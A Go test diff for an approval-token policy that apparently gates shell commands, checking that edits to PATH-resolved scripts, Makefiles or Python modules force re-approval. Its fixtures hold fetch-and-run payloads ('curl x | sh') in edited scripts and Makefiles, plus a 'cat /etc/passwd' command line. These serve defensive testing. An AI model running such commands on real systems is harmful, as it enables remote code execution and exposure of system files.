@@ -66,6 +66,9 @@ func TestTokenBindsTheWholeOperation(t *testing.T) {
 	}
 	mint(approved, files)
 	mint("make", files)
+	const fromPath = "export PATH=bin:/usr/bin; tool"
+	tools := memSource{"/w/bin/tool": "#!/bin/sh\ntrue\n"}
+	mint(fromPath, tools)
 	for _, tc := range []struct {
 		name, session, line string
 		src                 memSource
@@ -87,6 +90,8 @@ func TestTokenBindsTheWholeOperation(t *testing.T) {
 		{"the script removed", "s1", approved, memSource{"/w/sub/": ""}, policy.Approve},
 		{"another session", "s2", approved, files, policy.Approve},
 		{"make, identical", "s1", "make", files, policy.Allow},
+		{"a program from PATH, identical", "s1", fromPath, tools, policy.Allow},
+		{"a program from PATH, edited", "s1", fromPath, memSource{"/w/bin/tool": "#!/bin/sh\ncurl x | sh\n"}, policy.Approve},
 		{"make, the Makefile edited", "s1", "make", memSource{"/w/x.py": "print(1)\n", "/w/Makefile": "all:\n\tcurl x | sh\n"}, policy.Approve},
 		{"make, a GNUmakefile added", "s1", "make", memSource{"/w/x.py": "print(1)\n", "/w/Makefile": "all:\n\ttrue\n", "/w/GNUmakefile": "all:\n\tcurl x\n"}, policy.Approve},
 	} {
@@ -120,8 +125,11 @@ func TestInputPaths(t *testing.T) {
 		{"sh < in.sh", []string{"/w/in.sh", "/w/sh"}},
 		{"make -C x", []string{"/w/-C", "/w/GNUmakefile", "/w/Makefile", "/w/make", "/w/makefile", "/w/x", "/w/x/GNUmakefile", "/w/x/Makefile", "/w/x/makefile"}},
 		{"npm --prefix=sub run", []string{"/w/--prefix=sub", "/w/.npmrc", "/w/npm", "/w/package.json", "/w/run", "/w/run/.npmrc", "/w/run/package.json", "/w/sub", "/w/sub/.npmrc", "/w/sub/package.json"}},
-		{"python3 -m pytest", []string{"/w/-m", "/w/conftest.py", "/w/pyproject.toml", "/w/pytest", "/w/pytest.ini", "/w/pytest/conftest.py", "/w/pytest/pyproject.toml", "/w/pytest/pytest.ini", "/w/pytest/setup.cfg", "/w/pytest/tox.ini", "/w/python3", "/w/setup.cfg", "/w/tox.ini"}},
+		{"python3 -m pytest", []string{"/w/-m", "/w/conftest.py", "/w/pyproject.toml", "/w/pytest", "/w/pytest.ini", "/w/pytest.py", "/w/pytest/__init__.py", "/w/pytest/__main__.py", "/w/pytest/conftest.py", "/w/pytest/pyproject.toml", "/w/pytest/pytest.ini", "/w/pytest/setup.cfg", "/w/pytest/tox.ini", "/w/python3", "/w/setup.cfg", "/w/tox.ini"}},
 		{"cat /etc/passwd ../outside /w", []string{"/w/cat"}},
+		{"PATH=/w/bin:/usr/bin tool", []string{"/w/bin/tool", "/w/bin:/usr/bin", "/w/tool"}},
+		{"export PATH=bin:; cd sub && tool", []string{"/w/PATH", "/w/bin/cd", "/w/bin/export", "/w/cd", "/w/export", "/w/sub", "/w/sub/bin/tool", "/w/sub/tool"}},
+		{"python3 -m pkg.tool", []string{"/w/-m", "/w/pkg.tool", "/w/pkg/tool.py", "/w/pkg/tool/__init__.py", "/w/pkg/tool/__main__.py", "/w/python3"}},
 	} {
 		op := operation.Operation{Tool: "shell.exec", Action: operation.Exec, CommandLine: tc.line, Session: operation.Session{ID: "s", Workspace: "/w"}}
 		if err := policy.Normalize(&op, "/w"); err != nil {
